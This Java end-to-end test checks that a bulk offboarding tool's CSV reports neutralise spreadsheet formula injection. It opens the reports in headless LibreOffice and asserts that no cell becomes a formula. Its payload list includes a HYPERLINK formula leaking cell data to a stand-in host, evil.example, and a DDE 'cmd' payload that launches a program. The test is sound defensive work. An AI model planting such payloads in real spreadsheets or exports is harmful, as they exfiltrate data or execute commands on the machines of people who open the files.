package dev.bulkoffboarding.report;

import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

import javax.xml.parsers.DocumentBuilderFactory;

import dev.bulkoffboarding.job.RunService;
import dev.bulkoffboarding.job.RunService.RunRequest;
import dev.bulkoffboarding.job.RunService.RunResult;
import dev.bulkoffboarding.sandbox.SandboxServer;
import dev.bulkoffboarding.support.SandboxVendor;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import org.w3c.dom.NodeList;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

/**
 * Formula injection, checked with a real spreadsheet engine: the reports of a run whose every cell
 * is a formula payload are opened by LibreOffice Calc (headless, converting CSV to flat ODS), and
 * every cell must come back as the text we wrote, none as a formula. The same payloads written
 * without neutralising do come back as formulas, so the engine is shown to be one that would run
 * them. Part of the e2e suite ({@code ./mvnw verify -Pe2e}): LibreOffice is required ({@code .ci/run}
 * installs {@code libreoffice-calc-nogui}); without it this test fails rather than skips.
 */
@SpringBootTest
@ActiveProfiles("test")
@Tag("e2e")
class SpreadsheetSafetyIntegrationTests {

    static final String TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0";

    static final String TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0";

    /** What OWASP's "CSV Injection" lists, and the classic payloads. */
    static final List<String> PAYLOADS = List.of("=1+1", "+1+1", "-1+1", "@SUM(1,1)",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "'=1+1", "=2+2 \u00A0");

    @AutoClose
    static final SandboxServer vendor = SandboxVendor.immediate();

    @Autowired
    RunService runs;

    @TempDir
    Path dir;

    @DynamicPropertySource
    static void quipteams(DynamicPropertyRegistry registry) {
        SandboxVendor.use(vendor, registry);
    }

    @Test
    void aSpreadsheetOpensEveryReportCellAsTheTextWeWroteAndNoneAsAFormula() throws Exception {
        // given: a file whose every cell, header included, is a payload; every row is invalid
        List<List<String>> sheet = new ArrayList<>();
        sheet.add(List.of("serial_number", "action_type", "current_user_name", "current_user_email", "notes",
                "=HYPERLINK(\"http://evil.example\",\"header\")"));
        for (String payload : PAYLOADS) {
            sheet.add(List.of(payload, payload, payload, payload, payload, payload));
        }
        Path input = write(this.dir.resolve("payloads.csv"), sheet);

        // when: it is run (the gate refuses it, the reports are written all the same) and the
        // reports, and the same payloads without neutralising, are opened in a spreadsheet
        RunResult result = this.runs.run(RunRequest.of(input));
        Path results = result.reportDirectory().resolve("results.csv");
        Path failures = result.reportDirectory().resolve("failures.csv");
        Path unsafe = write(this.dir.resolve("unsafe.csv"), sheet);
        List<Path> opened = openInSpreadsheet(List.of(results, failures, unsafe));

        // then: the engine runs formulas it is given...
        assertThat(formulas(opened.get(2))).contains("of:=1+1", "of:=HYPERLINK(\"http://evil.example\";\"header\")");

        // ...and finds none in our reports, where every cell reads as we wrote it
        assertThat(vendor.requests()).isEmpty();
        assertThat(readCsv(failures)).hasSize(PAYLOADS.size() + 1);
        for (int report = 0; report < 2; report++) {
            Path csv = List.of(results, failures).get(report);
            assertThat(formulas(opened.get(report))).as("formulas in %s", csv.getFileName()).isEmpty();
            List<List<String>> written = readCsv(csv);
            List<List<String>> shown = cells(opened.get(report));
            for (int row = 0; row < written.size(); row++) {
                for (int column = 0; column < written.get(row).size(); column++) {
                    String cell = written.get(row).get(column);
                    assertThat(shown.get(row).get(column)).as("%s row %d column %d", csv.getFileName(), row + 1,
                            column + 1).isEqualTo(cell.replace("\r\n", "\n").replace('\r', '\n'));
                }
            }
        }
        assertThat(cells(opened.get(1)).get(1).get(0)).isEqualTo("'=1+1");
        assertThat(cells(opened.get(1)).get(0).get(5)).isEqualTo("'=HYPERLINK(\"http://evil.example\",\"header\")");
    }

    /** The rows as plain CSV, cells as they are. */
    static Path write(Path file, List<List<String>> rows) throws IOException {
        StringWriter text = new StringWriter();
        try (CSVPrinter printer = new CSVPrinter(text, CSVFormat.RFC4180)) {
            for (List<String> row : rows) {
                printer.printRecord(row);
            }
        }
        return Files.writeString(file, text.toString(), StandardCharsets.UTF_8);
    }

    static List<List<String>> readCsv(Path file) throws IOException {
        try (CSVParser parser = CSVParser.parse(file, StandardCharsets.UTF_8, CSVFormat.RFC4180)) {
            List<List<String>> rows = new ArrayList<>();
            for (CSVRecord record : parser) {
                rows.add(record.toList());
            }
            return rows;
        }
    }

    /** Converts CSV files to flat ODS with LibreOffice Calc, reading them as UTF-8, comma-separated. */
    List<Path> openInSpreadsheet(List<Path> csvFiles) throws Exception {
        Path out = Files.createDirectories(this.dir.resolve("opened"));
        List<String> command = new ArrayList<>(List.of(soffice(), "--headless", "--norestore",
                "-env:UserInstallation=" + this.dir.resolve("libreoffice-profile").toUri(), "--infilter=CSV:44,34,76,1",
                "--convert-to", "fods", "--outdir", out.toString()));
        csvFiles.forEach((file) -> command.add(file.toString()));
        Process process = new ProcessBuilder(command).redirectErrorStream(true)
            .redirectOutput(this.dir.resolve("soffice.log").toFile())
            .start();
        if (!process.waitFor(3, TimeUnit.MINUTES)) {
            process.destroyForcibly();
            fail("LibreOffice did not finish converting within 3 minutes");
        }
        List<Path> opened = new ArrayList<>();
        for (Path file : csvFiles) {
            Path converted = out.resolve(file.getFileName().toString().replace(".csv", ".fods"));
            if (!Files.exists(converted)) {
                // results.csv and failures.csv of one run have distinct names; a clash would show here
                fail("LibreOffice did not convert " + file + ": " + Files.readString(this.dir.resolve("soffice.log")));
            }
            opened.add(converted);
        }
        return opened;
    }

    static String soffice() {
        for (String directory : System.getenv().getOrDefault("PATH", "").split(java.io.File.pathSeparator)) {
            if (Files.isExecutable(Path.of(directory, "soffice"))) {
                return Path.of(directory, "soffice").toString();
            }
        }
        return fail("LibreOffice (soffice) is not on the PATH (" + System.getenv("PATH") + "): this e2e test needs "
                + "a real spreadsheet engine. Install it with: apt-get install --no-install-recommends "
                + "libreoffice-calc-nogui (.ci/run does). This test fails rather than skips.");
    }

    static List<String> formulas(Path fods) throws Exception {
        List<String> formulas = new ArrayList<>();
        NodeList cells = parse(fods).getElementsByTagNameNS(TABLE, "table-cell");
        for (int i = 0; i < cells.getLength(); i++) {
            Element cell = (Element) cells.item(i);
            if (cell.hasAttributeNS(TABLE, "formula")) {
                formulas.add(cell.getAttributeNS(TABLE, "formula"));
            }
        }
        return formulas;
    }

    /** The text each cell shows, row by row, as a person would read it. */
    static List<List<String>> cells(Path fods) throws Exception {
        List<List<String>> rows = new ArrayList<>();
        NodeList tableRows = parse(fods).getElementsByTagNameNS(TABLE, "table-row");
        for (int r = 0; r < tableRows.getLength(); r++) {
            List<String> row = new ArrayList<>();
            for (Node child = tableRows.item(r).getFirstChild(); child != null; child = child.getNextSibling()) {
                if (child instanceof Element cell && TABLE.equals(cell.getNamespaceURI())
                        && "table-cell".equals(cell.getLocalName())) {
                    String repeated = cell.getAttributeNS(TABLE, "number-columns-repeated");
                    int times = repeated.isEmpty() ? 1 : Math.min(Integer.parseInt(repeated), 64);
                    String text = text(cell);
                    for (int i = 0; i < times; i++) {
                        row.add(text);
                    }
                }
            }
            rows.add(row);
        }
        return rows;
    }

    private static String text(Element cell) {
        List<String> paragraphs = new ArrayList<>();
        NodeList ps = cell.getElementsByTagNameNS(TEXT, "p");
        for (int i = 0; i < ps.getLength(); i++) {
            StringBuilder text = new StringBuilder();
            appendText(ps.item(i), text);
            paragraphs.add(text.toString());
        }
        return String.join("\n", paragraphs);
    }

    private static void appendText(Node node, StringBuilder text) {
        for (Node child = node.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (child.getNodeType() == Node.TEXT_NODE) {
                text.append(child.getNodeValue());
            }
            else if (child instanceof Element element && TEXT.equals(element.getNamespaceURI())) {
                switch (element.getLocalName()) {
                    case "s" -> text.append(" ".repeat(element.hasAttributeNS(TEXT, "c")
                            ? Integer.parseInt(element.getAttributeNS(TEXT, "c")) : 1));
                    case "tab" -> text.append('\t');
                    case "line-break" -> text.append('\n');
                    default -> appendText(element, text);
                }
            }
        }
    }

    private static Document parse(Path file) throws Exception {
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        return factory.newDocumentBuilder().parse(file.toFile());
    }

}
